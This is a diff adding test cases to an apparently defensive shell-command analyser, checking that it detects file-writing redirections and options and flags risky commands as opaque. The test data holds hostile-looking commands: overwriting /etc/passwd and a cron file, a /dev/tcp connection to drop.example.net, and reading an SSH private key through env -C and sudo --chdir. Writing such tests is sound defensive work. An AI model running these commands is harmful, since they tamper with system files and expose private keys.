@@ -32,6 +32,10 @@ describe('every program that a command would start is seen', () => {
     ['escaped or in quotes', '\\rm x; "r"m y', ['rm x', 'rm y']],
     ['local, under the name of a known one', './git status', ['./git status']],
     ['with global options before the sub-command', 'git -C /srv/repo --no-pager reset --hard HEAD~3', ['git reset --hard HEAD~3']],
+    ['that a redirection writes a file', 'cat a > /etc/passwd; ls >> b 2>| c; ls &> d <> e', ['> /etc/passwd', '> b', '> c', '> d', '> e', 'cat a', 'ls', 'ls']],
+    ['that a redirection reads a file', 'wc -l < .ssh/../data.txt', ['< data.txt', 'wc -l']],
+    ['without redirections that keep nothing', 'ls > /dev/null 2>&1', ['ls']],
+    ['that an option writes a file', 'git diff --output=/etc/cron.d/job; git log --outp x; sort -o y a', ['> /etc/cron.d/job', '> x', '> y', 'git diff --output=/etc/cron.d/job', 'git log --outp x', 'sort -o y a']],
     ['with a lone --', 'git diff --no-index -- a.txt b.txt', ['git diff --no-index -- a.txt b.txt']],
   ])('%s', (_, command, wanted) => {
     expect([...programs(command)].sort()).toEqual([...wanted].sort());
@@ -75,6 +79,11 @@ describe('what a command would do is opaque when it is not all there', () => {
     ['a carriage return', 'ls\rrm x'],
     ['a path above the start', 'cat ../../etc/passwd'],
     ['a redirection to a variable', 'ls > $x'],
+    ['a redirection that opens a connection', 'cat < /dev/tcp/drop.example.net/80'],
+    ['env in another folder', 'env -C /home/ada/.ssh cat id_ed25519'],
+    ['sudo in another folder', 'sudo --chdir=/home/ada/.ssh cat id_ed25519'],
+    ['git with a shortened option that runs a program', 'git diff --ext-di'],
+    ['tar with a shortened option that runs a program', 'tar xf a.tar --to-com=sh'],
   ])('%s', (_, command) => {
     expect(opaque(command)).toBe(true);
   });
